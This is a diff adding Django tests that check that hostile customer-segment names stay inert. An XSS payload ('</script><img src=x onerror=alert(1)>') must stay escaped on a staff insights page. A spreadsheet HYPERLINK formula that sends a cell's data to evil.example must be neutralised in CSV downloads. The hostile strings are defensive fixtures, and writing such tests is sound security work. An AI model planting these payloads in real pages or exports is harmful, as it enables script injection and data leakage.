@@ -115,3 +115,74 @@ def test_a_request_for_insights_only_queues_the_run_on_the_bulk_queue(
         "prosumo.insights.tasks.compute_insights",
         [run.pk],
     )
+
+
+HOSTILE_SEGMENT = "</script><img src=x onerror=alert(1)>"
+FORMULA_SEGMENT = '=HYPERLINK("https://evil.example/?"&A2,"Gold")'
+
+
+@pytest.fixture
+def hostile_segment(demo, admin, django_capture_on_commit_callbacks):
+    """A customer file names two tiers, one with HTML in it and one a formula; ten demo members take each."""
+    from prosumo.community.imports import customer_import_create
+    from prosumo.community.models import Member
+
+    emails = list(Member.objects.filter(role="member").order_by("pk").values_list("email", flat=True)[:20])
+    quoted = [HOSTILE_SEGMENT, FORMULA_SEGMENT.replace('"', '""')]
+    rows = "".join(f'C-{i},{email},"{quoted[i % 2]}",100,ES\n' for i, email in enumerate(emails))
+    with django_capture_on_commit_callbacks(execute=True):
+        job = customer_import_create(
+            actor=admin, file_name="tiers.csv", data=("customer_id,email,tier,spend,country\n" + rows).encode()
+        )
+    job.refresh_from_db()
+    assert job.state == "done", job.message
+    assert Member.objects.filter(segment__name=HOSTILE_SEGMENT).count() == 10
+    assert Member.objects.filter(segment__name=FORMULA_SEGMENT).count() == 10
+    with django_capture_on_commit_callbacks(execute=True):
+        insights_request(actor=admin)
+    run = InsightRun.objects.get()
+    assert run.status == InsightRun.Status.DONE, run.error
+    return run
+
+
+def test_hostile_segment_names_stay_text_on_the_page_and_in_the_csv(hostile_segment, admin, login):
+    import csv
+    import io
+    import json
+    import re
+
+    client = login(admin)
+    # when: staff open the involvement question, whose charts and tables name the segments
+    page = client.get(f"/staff/insights/{hostile_segment.pk}/involvement/").content.decode()
+    # then: the name never appears as markup; each chart's data is one JSON script that holds it intact
+    assert HOSTILE_SEGMENT not in page
+    assert "<img" not in page
+    specs = re.findall(r'<script id="chart\d+-spec" type="application/json">(.*?)</script>', page, re.S)
+    assert len(specs) == len(hostile_segment.section("involvement")["charts"]) > 0
+    assert [json.loads(s) for s in specs] == hostile_segment.section("involvement")["charts"]
+    assert HOSTILE_SEGMENT in json.dumps([json.loads(s) for s in specs], ensure_ascii=False)
+
+    # when: they download the table that names the segments
+    tables = hostile_segment.section("involvement")["tables"]
+    name, rows = next((n, r) for n, r in tables.items() if any(FORMULA_SEGMENT in row.values() for row in r))
+    response = client.get(f"/staff/insights/{hostile_segment.pk}/involvement/{name}.csv")
+    # then: the formula is text behind a quote, quoted; numbers stay numbers; every row is there
+    assert response.status_code == 200
+    text = response.content.decode()
+    assert '"\'=HYPERLINK(""https://evil.example/?""&A2,""Gold"")"' in text
+    assert "\n=" not in text
+    assert ',"=' not in text
+    read = list(csv.reader(io.StringIO(text)))
+    assert read[0] == list(rows[0])
+
+    def read_back(value):
+        text = "" if value is None else str(value)
+        return "'" + text if isinstance(value, str) and text.startswith(("=", "+", "-", "@", "\t", "\r")) else text
+
+    assert read[1:] == [[read_back(v) for v in row.values()] for row in rows]
+    formula_row = next(row for row in rows if FORMULA_SEGMENT in row.values())
+    raw = ",".join(
+        '"' + read_back(v).replace('"', '""') + '"' if isinstance(v, str) or v is None else repr(v)
+        for v in formula_row.values()
+    )
+    assert raw + "\r\n" in text  # text quoted, numbers bare
